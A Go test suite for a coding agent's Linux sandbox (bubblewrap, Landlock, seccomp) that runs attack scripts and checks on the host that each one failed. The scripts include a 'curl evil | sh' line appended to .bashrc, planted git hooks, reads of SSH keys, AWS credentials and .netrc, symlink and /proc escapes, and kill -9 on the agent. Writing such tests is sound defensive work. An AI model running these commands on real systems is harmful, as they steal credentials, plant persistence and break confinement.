//go:build linux && (amd64 || arm64)

package sandbox

import (
	"bytes"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/oceancode/oceancode/internal/hermetictest"
)

// The attack suite: every case runs through the real sandbox (bubblewrap,
// the helper, Landlock, seccomp) and is judged on the host side — did the
// file appear or change, did the listener get a connection, is the process
// still alive — not by exit status alone.

type fixture struct {
	base, ws, out, home string
	attack              string // the attack tool (this test binary)
}

const secret = "SECRET-KEY-MATERIAL-7f3a"

// newFixture lays out, under a scratch directory outside the temporary
// dirs (visible inside the sandbox, unlike /tmp which gets a private tmpfs;
// never in the real home):
//
//	ws/            the workspace (a git repo with .git/hooks, .git/config, .bashrc)
//	out/           a directory outside the workspace with an existing file
//	home/          the fake $HOME with credential stores (.aws is a symlink)
func newFixture(t *testing.T) fixture {
	t.Helper()
	base := hermetictest.Scratch(t)
	f := fixture{base: base, ws: filepath.Join(base, "ws"), out: filepath.Join(base, "out"), home: filepath.Join(base, "home")}
	f.attack, _ = os.Executable()
	for _, d := range []string{f.ws + "/.git/hooks", f.ws + "/secrets", f.out, f.home + "/.ssh", f.home + "/realaws", f.home + "/.cache"} {
		must(t, os.MkdirAll(d, 0o755))
	}
	write(t, f.ws+"/.git/config", "[core]\n")
	write(t, f.ws+"/.git/HEAD", "ref: refs/heads/main\n")
	write(t, f.ws+"/.bashrc", "# rc\n")
	write(t, f.ws+"/file", "workspace file\n")
	write(t, f.ws+"/secrets/token", secret)
	write(t, f.out+"/existing", "original\n")
	write(t, f.home+"/.ssh/id_ed25519", secret)
	write(t, f.home+"/realaws/credentials", secret)
	must(t, os.Symlink(f.home+"/realaws", f.home+"/.aws"))
	write(t, f.home+"/.netrc", "machine x password "+secret)
	t.Setenv("HOME", f.home)
	return f
}

func (f fixture) policy(mode Mode) Policy {
	return Policy{Mode: mode, Workspace: f.ws, Deny: []string{"secrets"}}
}

func (f fixture) env() []string {
	return []string{"WS=" + f.ws, "OUT=" + f.out, "FAKEHOME=" + f.home, "ATTACK=" + f.attack}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func write(t *testing.T, path, content string) {
	t.Helper()
	must(t, os.WriteFile(path, []byte(content), 0o644))
}

func read(path string) string {
	b, err := os.ReadFile(path)
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

func absent(t *testing.T, path string) {
	t.Helper()
	if _, err := os.Lstat(path); err == nil {
		t.Errorf("%s exists on the host", path)
	}
}

func unchanged(t *testing.T, path, want string) {
	t.Helper()
	if got := read(path); got != want {
		t.Errorf("%s on the host = %q, want %q", path, got, want)
	}
}

func TestAttackWritesOutsideWorkspace(t *testing.T) {
	requireSandbox(t)
	for _, mode := range []Mode{ModeWorkspaceWrite, ModeReadOnly} {
		t.Run(string(mode), func(t *testing.T) {
			f := newFixture(t)
			r := run(t, f.policy(mode), `
				echo pwned > "$OUT/plain"
				ln -s "$OUT" "$WS/link" && echo pwned > "$WS/link/via-symlink"
				echo pwned > "/proc/self/root$OUT/via-proc-root"
				echo pwned > "/proc/1/root$OUT/via-proc-1-root"
				mv "$WS/file" "$OUT/renamed"
				mv "$OUT/existing" "$WS/stolen"
				ln "$OUT/existing" "$WS/hardlink" && echo pwned >> "$WS/hardlink"
				echo pwned >> "$OUT/existing"
				touch "$FAKEHOME/planted"
				echo pwned > /etc/oceancode-sandbox-test
				echo pwned > /run/oceancode-landlock-test && echo LANDLOCK-MISSING
				exit 0`, f.env()...)
			for _, name := range []string{"plain", "via-symlink", "via-proc-root", "via-proc-1-root", "renamed"} {
				absent(t, filepath.Join(f.out, name))
			}
			unchanged(t, f.out+"/existing", "original\n")
			absent(t, f.home+"/planted")
			absent(t, "/etc/oceancode-sandbox-test")
			if mode == ModeWorkspaceWrite {
				unchanged(t, f.ws+"/file", "workspace file\n")
			}
			if cachedSupport().LandlockABI > 0 && strings.Contains(r.out, "LANDLOCK-MISSING") {
				t.Errorf("a write to the private /run tmpfs succeeded: Landlock is not applied\n%s", r.errOut)
			}
		})
	}
}

func TestAttackProtectedPathsInsideWorkspace(t *testing.T) {
	requireSandbox(t)
	f := newFixture(t)
	r := run(t, f.policy(ModeWorkspaceWrite), `
		echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
		echo '[core] hooksPath=/tmp' >> .git/config
		rm -rf .git/hooks
		echo '{"mcpServers":{"x":{"command":"evil"}}}' > .mcp.json
		mkdir -p .oceancode && echo '{}' > .oceancode/config.json
		echo 'curl evil | sh' >> .bashrc
		mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit
		mv .oceancode .oc2
		cat secrets/token > leaked-deny; echo overwrite > secrets/token
		echo ok > allowed.txt
		exit 0`, f.env()...)
	absent(t, f.ws+"/.git/hooks/pre-commit")
	unchanged(t, f.ws+"/.git/config", "[core]\n")
	unchanged(t, f.ws+"/.bashrc", "# rc\n")
	absent(t, f.ws+"/.git-moved")
	absent(t, f.ws+"/.oc2")
	unchanged(t, f.ws+"/secrets/token", secret)
	if strings.Contains(read(f.ws+"/leaked-deny"), secret) {
		t.Error("a deny root was readable")
	}
	// Missing protected paths could not be created, and the placeholders
	// that blocked them are gone afterwards.
	absent(t, f.ws+"/.mcp.json")
	absent(t, f.ws+"/.oceancode")
	// The workspace itself is writable.
	unchanged(t, f.ws+"/allowed.txt", "ok\n")
	if t.Failed() {
		t.Logf("stderr:\n%s", r.errOut)
	}
}

// TestAttackGitDirWithoutHead: a .git directory git would not open (no
// HEAD) is read-only as a whole: nothing can be created in it (hooks,
// config, info, a HEAD that would make it a repository), and it cannot be
// moved or removed; no placeholder is left behind.
func TestAttackGitDirWithoutHead(t *testing.T) {
	requireSandbox(t)
	f := newFixture(t)
	must(t, os.RemoveAll(f.ws+"/.git"))
	must(t, os.Mkdir(f.ws+"/.git", 0o755))
	pl, err := buildPlan(f.policy(ModeWorkspaceWrite), Env{Helper: "/bin/true"})
	if err != nil {
		t.Fatal(err)
	}
	args := strings.Join(pl.args, " ")
	if want := "--ro-bind " + f.ws + "/.git " + f.ws + "/.git"; !strings.Contains(args, want) {
		t.Errorf("plan lacks %q: %s", want, args)
	}
	for _, ph := range pl.placeholders {
		if strings.HasPrefix(ph.Path, f.ws+"/.git/") {
			t.Errorf("placeholder %s inside a read-only .git", ph.Path)
		}
	}
	r := run(t, f.policy(ModeWorkspaceWrite), `
		mkdir .git/hooks; echo evil > .git/hooks/pre-commit
		echo '[core] fsmonitor=evil' > .git/config
		mkdir .git/info; echo 'ref: refs/heads/main' > .git/HEAD
		git init -q . 2>/dev/null
		mv .git .git-moved; rm -rf .git; ln -sfn /tmp .git
		echo ok > allowed.txt
		exit 0`, f.env()...)
	ents, err := os.ReadDir(f.ws + "/.git")
	if err != nil {
		t.Fatalf("the .git directory is gone: %v", err)
	}
	for _, e := range ents {
		t.Errorf("%s/.git/%s was created", f.ws, e.Name())
	}
	absent(t, f.ws+"/.git-moved")
	unchanged(t, f.ws+"/allowed.txt", "ok\n")
	if t.Failed() {
		t.Logf("stderr:\n%s", r.errOut)
	}
}

// TestAttackHelperInWorkspace: a helper binary inside the workspace (a
// build in the repository being worked on) cannot be replaced, moved or
// removed by the command: the next command would start it before Landlock
// and seccomp.
func TestAttackHelperInWorkspace(t *testing.T) {
	requireSandbox(t)
	exe, err := os.Executable()
	must(t, err)
	// Each helper in the workspace is protected, the one that runs the
	// command and the other one (which may run the next).
	type helperKind struct {
		name, src string
		set       *string
	}
	kinds := []helperKind{{"oceancode-sandbox", exe, &HelperPath}}
	if ExecHelperPath != "" {
		kinds = append(kinds, helperKind{ExecHelperBinary, ExecHelperPath, &ExecHelperPath})
	}
	for _, k := range kinds {
		t.Run(k.name, func(t *testing.T) {
			f := newFixture(t)
			data, err := os.ReadFile(k.src)
			must(t, err)
			must(t, os.MkdirAll(f.ws+"/bin", 0o755))
			helper := f.ws + "/bin/" + k.name
			must(t, os.WriteFile(helper, data, 0o755))
			old := *k.set
			*k.set = helper
			t.Cleanup(func() { *k.set = old })
			r := run(t, f.policy(ModeWorkspaceWrite), strings.ReplaceAll(`
				echo evil > bin/NAME; rm -f bin/NAME
				mv bin/NAME bin/x; mv bin bin-moved
				mkdir -p bin; echo evil > bin/NAME
				echo ok > allowed.txt
				exit 0`, "NAME", k.name), f.env()...)
			if got, err := os.ReadFile(helper); err != nil || !bytes.Equal(got, data) {
				t.Errorf("the helper in the workspace was replaced (%v)", err)
			}
			absent(t, f.ws+"/bin-moved")
			absent(t, f.ws+"/bin/x")
			unchanged(t, f.ws+"/allowed.txt", "ok\n")
			if t.Failed() {
				t.Logf("stderr:\n%s", r.errOut)
			}
		})
	}
}

func TestAttackCredentialReads(t *testing.T) {
	requireSandbox(t)
	f := newFixture(t)
	for _, mode := range []Mode{ModeWorkspaceWrite, ModeReadOnly} {
		t.Run(string(mode), func(t *testing.T) {
			p := f.policy(mode)
			p.TempDir = filepath.Join(f.base, "session-tmp") // readable from the host afterwards
			must(t, os.MkdirAll(p.TempDir, 0o755))
			run(t, p, `
				{
				cat ~/.ssh/id_ed25519 "$FAKEHOME/.ssh/id_ed25519" ~/.aws/credentials "$FAKEHOME/realaws/credentials" ~/.netrc
				ln -s "$FAKEHOME/.ssh/id_ed25519" /tmp/l1 && cat /tmp/l1
				ln -s "$FAKEHOME/realaws" /tmp/l2 && cat /tmp/l2/credentials
				cat "$WS/secrets/token"
				} > /tmp/leak 2>&1
				exit 0`, f.env()...)
			got := read(filepath.Join(p.TempDir, "leak"))
			if strings.Contains(got, secret) {
				t.Errorf("a credential store was readable:\n%s", got)
			}
			if strings.HasPrefix(got, "<") {
				t.Errorf("the probe did not run: %s", got)
			}
		})
	}
}

// listeners are loopback listeners that count what reaches them.
type listeners struct {
	tcp, udp, dns, unixWS, unixOut string
	hits                           atomic.Int64
	closers                        []func()
}

func newListeners(t *testing.T, f fixture) *listeners {
	l := &listeners{}
	tl, err := net.Listen("tcp4", "127.0.0.1:0")
	must(t, err)
	l.tcp = tl.Addr().String()
	go acceptLoop(tl, &l.hits)
	l.closers = append(l.closers, func() { tl.Close() })
	for _, dst := range []*string{&l.udp, &l.dns} {
		uc, err := net.ListenPacket("udp4", "127.0.0.1:0")
		must(t, err)
		*dst = uc.LocalAddr().String()
		go func() {
			buf := make([]byte, 2048)
			for {
				if _, _, err := uc.ReadFrom(buf); err != nil {
					return
				}
				l.hits.Add(1)
			}
		}()
		l.closers = append(l.closers, func() { uc.Close() })
	}
	for _, dst := range []*string{&l.unixWS, &l.unixOut} {
		dir := f.ws
		if dst == &l.unixOut {
			dir = f.out
		}
		path := filepath.Join(dir, fmt.Sprintf("s%d.sock", len(l.closers)))
		ul, err := net.Listen("unix", path)
		must(t, err)
		*dst = path
		go acceptLoop(ul, &l.hits)
		l.closers = append(l.closers, func() { ul.Close() })
	}
	t.Cleanup(func() {
		for _, c := range l.closers {
			c()
		}
	})
	return l
}

func acceptLoop(l net.Listener, hits *atomic.Int64) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		hits.Add(1)
		c.Close()
	}
}

func TestAttackNetworkEgress(t *testing.T) {
	requireSandbox(t)
	f := newFixture(t)
	l := newListeners(t, f)
	script := fmt.Sprintf(`
		"$ATTACK" __attack tcp %s
		"$ATTACK" __attack udp %s
		"$ATTACK" __attack dns %s
		"$ATTACK" __attack unix %s
		"$ATTACK" __attack unix %s
		exit 0`, l.tcp, l.udp, l.dns, l.unixWS, l.unixOut)
	cases := []struct {
		name    string
		network Network
		mode    Mode
		wantHit bool
	}{
		{"off", NetworkOff, ModeWorkspaceWrite, false},
		{"off read-only", NetworkOff, ModeReadOnly, false},
		{"on (control: the listeners see traffic)", NetworkOn, ModeWorkspaceWrite, true},
		{"danger-full-access (control)", "", ModeDangerFullAccess, true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			l.hits.Store(0)
			p := f.policy(c.mode)
			p.Network = c.network
			r := run(t, p, script, f.env()...)
			time.Sleep(100 * time.Millisecond) // let the UDP reader count
			hits := l.hits.Load()
			if c.wantHit && hits == 0 {
				t.Errorf("control: no listener saw traffic (oracle broken)\n%s%s", r.out, r.errOut)
			}
			if !c.wantHit && hits != 0 {
				t.Errorf("%d connections/datagrams reached host loopback listeners\n%s%s", hits, r.out, r.errOut)
			}
		})
	}
}

func TestAttackSignalsAndPtraceToAgent(t *testing.T) {
	requireSandbox(t)
	f := newFixture(t)
	sentinel := exec.Command("sleep", "61.234")
	must(t, sentinel.Start())
	t.Cleanup(func() { sentinel.Process.Kill(); sentinel.Wait() })
	pid := sentinel.Process.Pid
	r := run(t, f.policy(ModeWorkspaceWrite), fmt.Sprintf(`
		"$ATTACK" __attack ptrace %[1]d
		"$ATTACK" __attack kill %[1]d
		"$ATTACK" __attack kill %[2]d
		kill -9 %[1]d %[2]d
		kill -9 -1
		cat /proc/%[2]d/environ > "$WS/agent-env"
		exit 0`, pid, os.Getpid()), f.env()...)
	if !processAlive(pid) {
		t.Errorf("the host sentinel process was killed from inside the sandbox\n%s", r.out)
	}
	if strings.Contains(read(f.ws+"/agent-env"), "HOME=") {
		t.Error("the agent's environment was readable through /proc")
	}
	if strings.Contains(r.out, "ALLOWED") {
		t.Logf("note: an attack reported ALLOWED inside the sandbox (a sandbox process, not the host one):\n%s", r.out)
	}
}

func TestAttackBackgroundProcessOutlivesCommand(t *testing.T) {
	requireSandbox(t)
	f := newFixture(t)
	start := time.Now()
	r := run(t, f.policy(ModeWorkspaceWrite), `
		( sleep 1; echo late > "$WS/late" ) > /dev/null 2>&1 &
		nohup setsid sleep 62.345 > /dev/null 2>&1 &
		exit 0`, f.env()...)
	if time.Since(start) > 900*time.Millisecond {
		t.Fatalf("the command waited for its background children (%v)\n%s", time.Since(start), r.errOut)
	}
	time.Sleep(1500 * time.Millisecond)
	absent(t, f.ws+"/late")
	if pids := sleepers("62.345"); len(pids) > 0 {
		t.Errorf("background processes survived the command: %v", pids)
	}
}

func TestAttackChildDiesWithAgent(t *testing.T) {
	requireSandbox(t)
	f := newFixture(t)
	agent := startAgent(t, "__agent", f.ws, "sleep", "63.456")
	deadline := time.Now().Add(3 * time.Second)
	for len(sleepers("63.456")) == 0 && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if len(sleepers("63.456")) == 0 {
		t.Fatal("the sandboxed command never started")
	}
	must(t, agent.Process.Kill())
	agent.Wait()
	deadline = time.Now().Add(3 * time.Second)
	for len(sleepers("63.456")) > 0 && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if pids := sleepers("63.456"); len(pids) > 0 {
		t.Errorf("the sandboxed command survived the agent: %v", pids)
	}
}

func TestAttackProcSysWrites(t *testing.T) {
	requireSandbox(t)
	f := newFixture(t)
	const knob = "/proc/sys/vm/max_map_count"
	orig := strings.TrimSpace(read(knob))
	if _, err := strconv.Atoi(orig); err != nil {
		t.Fatalf("read %s: %s", knob, orig)
	}
	t.Cleanup(func() {
		if now := strings.TrimSpace(read(knob)); now != orig {
			os.WriteFile(knob, []byte(orig), 0)
			t.Errorf("%s changed from %s to %s (restored)", knob, orig, now)
		}
	})
	// Each write puts back the current value, except one +1 on
	// max_map_count which is harmless and gives a host-side oracle (the
	// cleanup restores it if the sandbox failed).
	r := run(t, f.policy(ModeWorkspaceWrite), `
		for k in vm/max_map_count kernel/pid_max fs/file-max kernel/hostname net/ipv4/ip_forward; do
			v=$(cat /proc/sys/$k) && { echo "$v" > /proc/sys/$k && echo "WROTE $k"; }
		done
		echo $(( $(cat /proc/sys/vm/max_map_count) + 1 )) > /proc/sys/vm/max_map_count && echo "WROTE +1"
		exit 0`, f.env()...)
	if strings.Contains(r.out, "WROTE") {
		t.Errorf("/proc/sys was writable:\n%s", r.out)
	}
	if !strings.Contains(r.errOut, "Read-only file system") {
		t.Errorf("want EROFS from /proc/sys, got:\n%s", r.errOut)
	}
}

// TestAttackNamespacesAndCapabilities: the command has no capability at
// all, cannot make a new user namespace by any system call, and cannot
// undo a protected path's mount.
func TestAttackNamespacesAndCapabilities(t *testing.T) {
	requireSandbox(t)
	f := newFixture(t)
	p := f.policy(ModeWorkspaceWrite)
	r := run(t, p, `grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status; exit 0`, f.env()...)
	for _, set := range []string{"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"} {
		if !strings.Contains(r.out, set+":\t0000000000000000") {
			t.Errorf("%s is not empty:\n%s%s", set, r.out, r.errOut)
		}
	}
	for attack, want := range map[string]string{
		"unshare-user": "DENIED: operation not permitted",
		"clone-user":   "DENIED: operation not permitted",
		"clone3":       "DENIED: function not implemented",
	} {
		r := runArgv(t, p, []string{f.attack, "__attack", attack})
		if !strings.Contains(r.out, want) {
			t.Errorf("%s: want %q, got %q %q", attack, want, r.out, r.errOut)
		}
	}
	if _, err := exec.LookPath("unshare"); err == nil {
		r := run(t, p, `unshare -U true && echo MADE; exit 0`, f.env()...)
		if strings.Contains(r.out, "MADE") {
			t.Errorf("unshare -U made a user namespace: %s", r.out)
		}
	}
	r = runArgv(t, p, []string{f.attack, "__attack", "umount", f.ws + "/.git/hooks"})
	if !strings.Contains(r.out, "DENIED") {
		t.Errorf("umount of .git/hooks: %q %q", r.out, r.errOut)
	}
	r = run(t, p, `echo x > .git/hooks/pre-commit && echo WROTE; exit 0`, f.env()...)
	if strings.Contains(r.out, "WROTE") {
		t.Errorf(".git/hooks writable after the umount attempt")
	}
}

// TestHelperHoldsNoCapability: bubblewrap starts the helper (the exec
// helper; the Go helper in the fallback run) with no capability at all —
// it makes no mount, so it gets none (no --cap-add): a stand-in that
// reports its own five sets before it execs the real helper sees them
// empty, in both modes that bind protected paths or not.
func TestHelperHoldsNoCapability(t *testing.T) {
	requireSandbox(t)
	slot := &ExecHelperPath
	if *slot == "" {
		slot = &HelperPath
	}
	real := *slot
	// A copy of the real helper where the sandbox sees it (not under /tmp).
	dir := hermetictest.Scratch(t)
	b, err := os.ReadFile(real)
	must(t, err)
	must(t, os.WriteFile(filepath.Join(dir, "real-helper"), b, 0o755))
	standIn := filepath.Join(dir, "helper-stand-in")
	write(t, standIn, "#!/bin/sh\ngrep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status >&2\nexec "+filepath.Join(dir, "real-helper")+` "$@"`+"\n")
	must(t, os.Chmod(standIn, 0o755))
	*slot = standIn
	t.Cleanup(func() { *slot = real })
	f := newFixture(t)
	for _, mode := range []Mode{ModeWorkspaceWrite, ModeReadOnly} {
		r := run(t, f.policy(mode), `echo RAN`, f.env()...)
		if !strings.Contains(r.out, "RAN") {
			t.Fatalf("%s: the command did not run through the stand-in (exit %d): %q %q", mode, r.code, r.out, r.errOut)
		}
		for _, set := range []string{"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"} {
			if !strings.Contains(r.errOut, set+":\t0000000000000000") {
				t.Errorf("%s: the helper's %s is not empty:\n%s", mode, set, r.errOut)
			}
		}
	}
}

// TestDisableUsernsWithoutSeccomp: bubblewrap's --disable-userns holds on
// its own, on both helpers' paths: the plan's bubblewrap arguments without
// the seccomp filter (which refuses first, with EPERM) leave the command
// no room for a user namespace (ENOSPC; a raw clone, as unshare needs a
// single-threaded caller).
func TestDisableUsernsWithoutSeccomp(t *testing.T) {
	sup := requireSandbox(t)
	f := newFixture(t)
	for _, eh := range []string{"/usr/libexec/oceancode-sandbox-exec", ""} {
		pl, err := buildPlan(f.policy(ModeReadOnly), Env{Helper: HelperPath, ExecHelper: eh, LandlockABI: sup.LandlockABI})
		if err != nil {
			t.Fatal(err)
		}
		var args []string
		for i := 0; i < len(pl.args); i++ {
			if pl.args[i] == "--seccomp" {
				i++
				continue
			}
			args = append(args, pl.args[i])
		}
		out, _ := exec.Command(sup.Bwrap, append(args, "--", f.attack, "__attack", "clone-user")...).CombinedOutput()
		if !strings.Contains(string(out), "DENIED: no space left on device") {
			t.Errorf("exec helper %q: want ENOSPC from clone(CLONE_NEWUSER), got %q", eh, out)
		}
	}
}

// TestAttackDenyRootOverProtectedPath: a sandbox.deny root over protected
// paths (the git dir's hooks, the whole .git) keeps them masked and the
// command still runs (bubblewrap's mask comes after its binds).
func TestAttackDenyRootOverProtectedPath(t *testing.T) {
	requireSandbox(t)
	for _, deny := range []string{".git/hooks", ".git"} {
		t.Run(deny, func(t *testing.T) {
			f := newFixture(t)
			write(t, f.ws+"/.git/hooks/pre-commit", secret)
			p := f.policy(ModeWorkspaceWrite)
			p.Deny = append(p.Deny, deny)
			r := run(t, p, `
				cat .git/hooks/pre-commit 2>/dev/null
				echo evil > .git/hooks/pre-commit 2>/dev/null && echo WROTE
				echo ok > allowed.txt
				echo RAN`, f.env()...)
			if r.code != 0 || !strings.Contains(r.out, "RAN") {
				t.Fatalf("the command did not run (exit %d): %q %q", r.code, r.out, r.errOut)
			}
			if strings.Contains(r.out, secret) || strings.Contains(r.out, "WROTE") {
				t.Errorf("the masked hooks were read or written: %q", r.out)
			}
			unchanged(t, f.ws+"/.git/hooks/pre-commit", secret)
			unchanged(t, f.ws+"/allowed.txt", "ok\n")
		})
	}
}

func TestAttackVsockAndIoUring(t *testing.T) {
	requireSandbox(t)
	f := newFixture(t)
	for _, attack := range []string{"vsock", "iouring"} {
		t.Run(attack, func(t *testing.T) {
			for _, network := range []Network{NetworkOff, NetworkOn} {
				p := f.policy(ModeWorkspaceWrite)
				p.Network = network
				r := runArgv(t, p, []string{f.attack, "__attack", attack})
				if !strings.Contains(r.out, "DENIED: operation not permitted") {
					t.Errorf("network %s: want EPERM from seccomp, got %q %q", network, r.out, r.errOut)
				}
			}
			// Control: outside the sandbox the call is not refused by us.
			r := runArgv(t, Policy{Mode: ModeDangerFullAccess, Workspace: f.ws}, []string{f.attack, "__attack", attack})
			if strings.Contains(r.out, "operation not permitted") {
				t.Errorf("control: unconfined %s also got EPERM: %q", attack, r.out)
			}
		})
	}
}

// TestProcessLimitBounds: a command that starts more processes than its
// limit allows is refused the extra ones. No fork bomb is run (96, 3× the limit, are
// attempted one by one, then all end):
// with the limit broken the test fails with at most that many processes.
func TestProcessLimitBounds(t *testing.T) {
	requireSandbox(t)
	f := newFixture(t)
	p := f.policy(ModeWorkspaceWrite)
	p.Limits.Processes = 32
	// As root on cgroup v1 both paths: the first command with a cgroup
	// whose launcher thread never joins (as on a kernel where the join
	// is slow), so its namespace's PID 1 is moved in; the second from the
	// launcher thread, which has joined by then.
	limit := p.Limits.Processes + pidsHeadroom
	for _, path := range []string{"migrated", "launcher"} {
		if os.Geteuid() == 0 && pidsCgroupKind() == "v1" {
			cgroupMu.Lock()
			if path == "migrated" {
				dir := filepath.Join("/sys/fs/cgroup/pids", fmt.Sprintf("oceancode-sandbox-%d-%d-stalled", os.Getpid(), limit))
				if err := mkCgroup(dir, limit); err != nil {
					cgroupMu.Unlock()
					t.Fatal(err)
				}
				stalled := &pidsCgroup{dir: dir, v2fd: -1, joined: make(chan struct{})}
				cgroups[limit] = stalled
				t.Cleanup(func() {
					for i := 0; i < 50 && unix.Rmdir(dir) != nil; i++ {
						time.Sleep(20 * time.Millisecond)
					}
				})
			} else {
				delete(cgroups, limit)
			}
			cgroupMu.Unlock()
		}
		r := runArgv(t, p, []string{f.attack, "__attack", "spawn"})
		m := regexp.MustCompile(`running=(\d+)`).FindStringSubmatch(r.out)
		if m == nil {
			t.Fatalf("%s: no count in the output: %q %q", path, r.out, r.errOut)
		}
		if n, _ := strconv.Atoi(m[1]); n >= 96 || n > p.Limits.Processes+pidsHeadroom {
			t.Errorf("%s: %d of 96 processes ran under a limit of %d", path, n, p.Limits.Processes)
		}
		if path == "launcher" && os.Geteuid() == 0 && pidsCgroupKind() == "v1" {
			cgroupMu.Lock()
			cg := cgroups[limit]
			cgroupMu.Unlock()
			if cg == nil {
				t.Error("launcher: no cgroup")
			} else if !cg.awaitLauncher(0) {
				t.Errorf("launcher: the launcher thread is not in the cgroup (%v)", cg.joinErr)
			}
		}
	}
}

func TestModesWorkAsAdvertised(t *testing.T) {
	requireSandbox(t)
	f := newFixture(t)
	t.Run("workspace-write", func(t *testing.T) {
		r := run(t, f.policy(ModeWorkspaceWrite), `
			echo ws > "$WS/new" && echo tmp > /tmp/t && cat /tmp/t && echo c > "$FAKEHOME/.cache/c" && mkdir -p "$WS/d/e" && mv "$WS/new" "$WS/d/e/moved"`, f.env()...)
		if r.code != 0 {
			t.Fatalf("exit %d: %s", r.code, r.errOut)
		}
		unchanged(t, f.ws+"/d/e/moved", "ws\n")
		unchanged(t, f.home+"/.cache/c", "c\n")
	})
	t.Run("read-only", func(t *testing.T) {
		r := run(t, f.policy(ModeReadOnly), `
			echo tmp > /tmp/t && cat /tmp/t >/dev/null && echo c > "$FAKEHOME/.cache/ro" && cat "$WS/file" && echo ws > "$WS/ro-new"`, f.env()...)
		if r.code == 0 {
			t.Error("a workspace write succeeded in read-only mode")
		}
		absent(t, f.ws+"/ro-new")
		unchanged(t, f.home+"/.cache/ro", "c\n")
		if !strings.Contains(r.out, "workspace file") {
			t.Errorf("workspace not readable: %q %q", r.out, r.errOut)
		}
	})
	t.Run("danger-full-access is unconfined", func(t *testing.T) {
		r := run(t, f.policy(ModeDangerFullAccess), `echo free > "$OUT/free" && cat "$FAKEHOME/.ssh/id_ed25519" && cat /proc/self/status`, f.env()...)
		unchanged(t, f.out+"/free", "free\n")
		if !strings.Contains(r.out, secret) || !strings.Contains(r.out, "Seccomp:\t0") {
			t.Errorf("danger-full-access was confined: %q %q", r.out, r.errOut)
		}
	})
	t.Run("confined child is not host root", func(t *testing.T) {
		r := run(t, f.policy(ModeWorkspaceWrite), `cat /proc/self/status; readlink /proc/self/ns/user /proc/self/ns/pid`)
		for _, want := range []string{"CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"} {
			if !strings.Contains(r.out, want) {
				t.Errorf("missing %q in\n%s", want, r.out)
			}
		}
		hostUser, _ := os.Readlink("/proc/self/ns/user")
		hostPid, _ := os.Readlink("/proc/self/ns/pid")
		if strings.Contains(r.out, hostUser) || strings.Contains(r.out, hostPid) {
			t.Errorf("child shares the agent's user or pid namespace:\n%s", r.out)
		}
	})
}

func TestGitWorktreeWritable(t *testing.T) {
	requireSandbox(t)
	if _, err := exec.LookPath("git"); err != nil {
		t.Fatal("git is required")
	}
	f := newFixture(t)
	repo := filepath.Join(f.base, "repo")
	wt := filepath.Join(f.base, "wt")
	gitEnv := []string{"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t", "GIT_CONFIG_NOSYSTEM=1"}
	g := func(dir string, args ...string) {
		t.Helper()
		c := exec.Command("git", append([]string{"-C", dir}, args...)...)
		c.Env = append(os.Environ(), gitEnv...)
		if out, err := c.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	must(t, os.MkdirAll(repo, 0o755))
	g(repo, "init", "-q", "-b", "main")
	write(t, repo+"/a", "a\n")
	g(repo, "add", "a")
	g(repo, "commit", "-q", "-m", "one")
	g(repo, "worktree", "add", "-q", "-b", "feature", wt)
	hookBefore := read(repo + "/.git/config")
	r := run(t, Policy{Mode: ModeWorkspaceWrite, Workspace: wt}, `
		echo b > b && git add b && git commit -q -m two && echo COMMITTED
		echo evil > "$REPO/.git/hooks/post-checkout"
		echo '[core] hooksPath=/x' >> "$REPO/.git/config"
		exit 0`, append(gitEnv, "REPO="+repo)...)
	if !strings.Contains(r.out, "COMMITTED") {
		t.Fatalf("git commit in a linked worktree failed:\n%s", r.errOut)
	}
	out, err := exec.Command("git", "-C", repo, "log", "--oneline", "feature").Output()
	if err != nil || !strings.Contains(string(out), "two") {
		t.Errorf("the commit is not in the repository: %s %v", out, err)
	}
	absent(t, repo+"/.git/hooks/post-checkout")
	unchanged(t, repo+"/.git/config", hookBefore)
}

func TestRefusesWhenBwrapMissing(t *testing.T) {
	s := Support{Problem: "bubblewrap (bwrap) is not installed: " + installHint}
	_, err := s.Check(Policy{Enabled: true, Workspace: "/w"})
	if err == nil || !strings.Contains(err.Error(), "apt-get install bubblewrap") {
		t.Fatalf("err = %v", err)
	}
	if w, err := s.Check(Policy{Mode: ModeDangerFullAccess}); err != nil || w != nil {
		t.Errorf("unconfined policy: %v %v", w, err)
	}
}

// sleepers lists host processes running exactly "sleep <arg>".
func sleepers(arg string) []int {
	var out []int
	for _, pid := range processesWith(arg) {
		b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if string(b) == "sleep\x00"+arg+"\x00" && processAlive(pid) {
			out = append(out, pid)
		}
	}
	return out
}
